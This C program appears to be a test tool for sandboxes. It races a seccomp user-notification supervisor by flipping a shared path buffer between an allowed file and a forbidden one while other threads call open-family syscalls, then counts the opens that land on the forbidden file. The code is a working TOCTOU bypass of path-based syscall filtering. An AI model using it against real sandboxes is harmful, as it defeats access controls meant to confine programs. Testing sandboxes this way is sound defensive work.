/* The TOCTOU of seccomp notify, as an attacker writes it: one thread opens
 * a path for writing over and over while a second thread flips the path
 * buffer between an allowed file and a forbidden one (same length), so
 * that the supervisor may judge the allowed one and the kernel then read
 * the forbidden one.
 *   open_race open|openat|openat2|creat ALLOWED FORBIDDEN MIN MAX
 * Opens until MIN opens succeeded and MIN were refused (or MAX tries),
 * then prints "tries=T opened=O refused=R forbidden=F": F counts opens
 * whose descriptor names the forbidden file (the attack worked). */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <linux/openat2.h>
#include <sys/stat.h>
#include <sys/syscall.h>

static char buf[4096];
static const char *paths[2];
static size_t len;
static atomic_int stop;

static void *flipper(void *arg)
{
	(void)arg;
	while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
		memcpy(buf, paths[0], len);
		memcpy(buf, paths[1], len);
	}
	return NULL;
}

static int try_open(const char *how_name)
{
	const int fl = O_WRONLY | O_CREAT;

	if (!strcmp(how_name, "open"))
		return syscall(SYS_open, buf, fl, 0644);
	if (!strcmp(how_name, "openat"))
		return syscall(SYS_openat, AT_FDCWD, buf, fl, 0644);
	if (!strcmp(how_name, "creat"))
		return syscall(SYS_creat, buf, 0644);
	if (!strcmp(how_name, "openat2")) {
		struct open_how h = { .flags = fl, .mode = 0644 };

		return syscall(SYS_openat2, AT_FDCWD, buf, &h, sizeof(h));
	}
	fprintf(stderr, "open_race: unknown syscall %s\n", how_name);
	exit(2);
}

/* Does fd name the forbidden file? (by inode: its name may change) */
static bool is_forbidden(int fd)
{
	struct stat a, b;

	return !fstat(fd, &a) && !stat(paths[1], &b) &&
	       a.st_dev == b.st_dev && a.st_ino == b.st_ino;
}

int main(int argc, char **argv)
{
	long min, max, tries = 0, opened = 0, refused = 0, forbidden = 0;
	pthread_t t;

	if (argc != 6 || strlen(argv[2]) != strlen(argv[3]) ||
	    strlen(argv[2]) >= sizeof(buf)) {
		fprintf(stderr, "usage: open_race SYSCALL ALLOWED FORBIDDEN MIN MAX "
			"(the two paths of the same length)\n");
		return 2;
	}
	paths[0] = argv[2];
	paths[1] = argv[3];
	len = strlen(argv[2]) + 1;
	min = atol(argv[4]);
	max = atol(argv[5]);
	memcpy(buf, paths[0], len);
	if (pthread_create(&t, NULL, flipper, NULL))
		return 2;
	while (tries < max && (opened < min || refused < min)) {
		int fd = try_open(argv[1]);

		tries++;
		if (fd >= 0) {
			opened++;
			forbidden += is_forbidden(fd);
			close(fd);
		} else if (errno == EPERM) {
			refused++;
		}
	}
	atomic_store(&stop, 1);
	pthread_join(t, NULL);
	printf("tries=%ld opened=%ld refused=%ld forbidden=%ld\n",
	       tries, opened, refused, forbidden);
	return 0;
}
